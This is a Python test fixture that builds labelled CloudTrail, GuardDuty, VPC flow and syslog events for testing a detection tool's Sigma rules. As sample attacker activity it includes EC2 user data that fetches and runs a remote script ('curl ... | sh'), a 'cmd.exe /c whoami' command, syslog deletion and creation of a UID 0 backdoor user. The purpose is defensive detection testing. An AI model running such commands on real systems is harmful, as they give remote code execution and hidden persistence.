"""Events for the Sigma conversion tests, built through Reynard's real parsers and plugins
(`reynard.detect.replay.load_events`): hand-written CloudTrail records, GuardDuty findings, VPC flow
lines and syslog lines, each with a label so a test can say which events a rule matches.

Labels: a CloudTrail record's `eventID`, a finding's `id`, a flow's interface id, a syslog line's
`program[pid]`.
"""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime
from pathlib import Path

from reynard.detect.replay import load_events
from reynard.settings import Settings

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
ACCOUNT = "123456789012"
USER_DATA = "#!/bin/bash\ncurl -s http://198.51.100.66/x | sh\n"


def _user(name: str) -> dict:
    return {
        "type": "IAMUser",
        "principalId": f"AIDA{name.upper()}",
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
        "accountId": ACCOUNT,
        "userName": name,
    }


def _record(event_id: str, name: str, source: str, time: str, **extra: object) -> dict:
    record = {
        "eventVersion": "1.08",
        "eventTime": f"2026-11-20T{time}Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.7",
        "userAgent": "Mozilla/5.0 (X11; Linux x86_64)",
        "userIdentity": _user("alice"),
        "requestParameters": None,
        "responseElements": None,
        "eventID": event_id,
        "eventType": "AwsApiCall",
        "recipientAccountId": ACCOUNT,
    }
    record.update(extra)
    return record


def _policy(bucket: str, principal: object, resource: str) -> dict:
    return {
        "bucketName": bucket,
        "bucketPolicy": {
            "Version": "2012-10-17",
            "Statement": [
                {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": resource}
            ],
        },
    }


CLOUDTRAIL = [
    _record(
        "ct-login-nomfa",
        "ConsoleLogin",
        "signin.amazonaws.com",
        "03:15:00",
        eventType="AwsConsoleSignIn",
        responseElements={"ConsoleLogin": "Success"},
        additionalEventData={"MFAUsed": "No", "MobileVersion": "No"},
    ),
    _record(
        "ct-login-mfa",
        "ConsoleLogin",
        "signin.amazonaws.com",
        "09:40:00",
        eventType="AwsConsoleSignIn",
        sourceIPAddress="198.51.100.9",
        userIdentity=_user("bob"),
        responseElements={"ConsoleLogin": "Success"},
        additionalEventData={"MFAUsed": "Yes", "MobileVersion": "No"},
    ),
    _record(
        "ct-createkey",
        "CreateAccessKey",
        "iam.amazonaws.com",
        "10:05:00",
        sourceIPAddress="AWS Internal",
        userAgent="AWS Internal",
        userIdentity={"type": "Root", "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT},
        requestParameters={"userName": "bob"},
        responseElements={"accessKey": {"userName": "bob", "accessKeyId": "AKIAEXAMPLE", "status": "Active"}},
    ),
    _record(
        "ct-policy-public",
        "PutBucketPolicy",
        "s3.amazonaws.com",
        "10:30:00",
        requestParameters=_policy("public-bucket", "*", "arn:aws:s3:::public-bucket/*"),
    ),
    _record(
        "ct-policy-private",
        "PutBucketPolicy",
        "s3.amazonaws.com",
        "10:31:00",
        sourceIPAddress="2001:db8::5",
        errorCode="AccessDenied",
        errorMessage="Access Denied",
        requestParameters=_policy(
            "private-bucket", {"AWS": "arn:aws:iam::999999999999:root"}, "arn:aws:s3:::private-bucket/logs"
        ),
    ),
    _record(
        "ct-describe",
        "DescribeInstances",
        "ec2.amazonaws.com",
        "11:00:00",
        sourceIPAddress="10.1.2.3",
        userAgent="aws-cli/2.13.0 Python/3.11.4 Linux/6.1 exe/x86_64 command/ec2.describe-instances",
        requestParameters={"maxResults": 5, "instancesSet": {}},
        readOnly=True,
    ),
    _record(
        "ct-runinstances",
        "RunInstances",
        "ec2.amazonaws.com",
        "11:20:00",
        userIdentity={
            "type": "AssumedRole",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/deploy/Svc-Deploy",
            "accountId": ACCOUNT,
        },
        requestParameters={
            "userData": base64.b64encode(USER_DATA.encode()).decode(),
            "note": "line one\nline two",
            "blob": "x" + "cmd".encode("utf-16le").decode() + "y",
            "command": "cmd.exe /c whoami",
        },
    ),
    _record(
        "ct-loginprofile",
        "UpdateLoginProfile",
        "iam.amazonaws.com",
        "11:45:00",
        userIdentity=_user("Alice"),
        requestParameters={"userName": "alice", "passwordResetRequired": False},
    ),
]


def _finding(finding_id: str, kind: str, severity: float, updated: str, resource: dict, action: dict) -> dict:
    return {
        "version": "0",
        "id": f"eb-{finding_id}",
        "detail-type": "GuardDuty Finding",
        "source": "aws.guardduty",
        "account": ACCOUNT,
        "time": f"2026-11-20T{updated}Z",
        "region": "us-east-1",
        "detail": {
            "schemaVersion": "2.0",
            "accountId": ACCOUNT,
            "region": "us-east-1",
            "id": finding_id,
            "arn": f"arn:aws:guardduty:us-east-1:{ACCOUNT}:detector/d1/finding/{finding_id}",
            "type": kind,
            "severity": severity,
            "title": f"{kind} on the test account",
            "createdAt": f"2026-11-20T{updated}Z",
            "updatedAt": f"2026-11-20T{updated}Z",
            "resource": resource,
            "service": {"serviceName": "guardduty", "action": action, "archived": False, "count": 3},
        },
    }


GUARDDUTY = [
    _finding(
        "gd-probe",
        "Recon:EC2/PortProbeUnprotectedPort",
        2,
        "08:00:00",
        {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-0abc123"}},
        {
            "actionType": "PORT_PROBE",
            "portProbeAction": {
                "portProbeDetails": [
                    {
                        "localPortDetails": {"port": 22, "portName": "SSH"},
                        "remoteIpDetails": {"ipAddressV4": "198.51.100.23"},
                    }
                ]
            },
        },
    ),
    _finding(
        "gd-creds",
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        8,
        "09:00:00",
        {
            "resourceType": "AccessKey",
            "accessKeyDetails": {"accessKeyId": "ASIAEXAMPLE", "userName": "deploy"},
        },
        {
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": "DescribeInstances",
                "remoteIpDetails": {"ipAddressV4": "203.0.113.50"},
            },
        },
    ),
]

_START = int(datetime(2026, 11, 20, 7, 0, tzinfo=UTC).timestamp())
VPCFLOW = [
    f"2 {ACCOUNT} eni-ssh 198.51.100.23 10.0.0.5 50122 22 6 12 1500 {_START} {_START + 60} ACCEPT OK",
    f"2 {ACCOUNT} eni-rdp 203.0.113.9 10.0.0.5 40000 3389 6 3 180 {_START} {_START + 60} REJECT OK",
    f"2 {ACCOUNT} eni-web 10.0.0.5 93.184.216.34 44321 443 6 20 4249 {_START} {_START + 60} ACCEPT OK",
    f"2 {ACCOUNT} eni-idle - - - - - - - {_START} {_START + 60} - NODATA",
]

SYSLOG = [
    "Nov 20 08:01:02 bastion1 sshd[1001]: Failed password for root from 183.62.140.253 port 52311 ssh2",
    "Nov 20 08:01:05 bastion1 sshd[1002]: Failed password for invalid user admin from 183.62.140.253"
    " port 52312 ssh2",
    "Nov 20 08:05:00 bastion1 sshd[1003]: Accepted publickey for deploy from 10.0.0.7 port 40022 ssh2",
    "Nov 20 08:07:00 bastion1 sshd[1005]: Corrupted MAC on input. [preauth]",
    "Nov 20 08:08:00 bastion1 sshd-session[1006]: Connection closed by authenticating user root 10.0.0.9"
    " port 2222 [preauth]",
    "Nov 20 08:10:00 bastion1 sudo[2001]: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000"
    " euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
    "Nov 20 08:11:00 bastion1 CRON[3001]: pam_unix(cron:session): session opened for user root by (uid=0)",
    "Nov 20 08:13:00 web1 bash[4001]: HISTORY: PID=4001 UID=0 rm /var/log/syslog",
    "Nov 20 08:14:00 web1 useradd[4100]: new user: name=backup, UID=0, GID=0, home=/root, shell=/bin/bash",
    "<86>1 2026-11-20T08:15:00Z web1 sssd 4200 - - Preauthentication failed for user carol",
    "Nov 20 08:16:00 web1 kernel[0]: device eth0 entered promiscuous mode",
]


def label(event: dict) -> str:
    details = event["details"]
    source = event["source"]
    if source == "cloudtrail":
        return details["eventid"]
    if source == "guardduty":
        return details["id"]
    if source == "vpcflow":
        return details["interfaceid"]
    return f"{event['processname']}[{event['processid']}]"


def build(folder: Path) -> list[dict]:
    """Every event above, parsed and enriched as `reynard ingest` would."""
    files = {
        "cloudtrail.json": json.dumps({"Records": CLOUDTRAIL}),
        "guardduty.json": "\n".join(json.dumps(f) for f in GUARDDUTY) + "\n",
        "vpcflow.log": "\n".join(VPCFLOW) + "\n",
        "syslog.log": "\n".join(SYSLOG) + "\n",
    }
    for name, text in files.items():
        (folder / name).write_text(text)
    events, rejected = load_events(Settings(), [str(folder / name) for name in files], NOW)
    assert not rejected, rejected
    return events
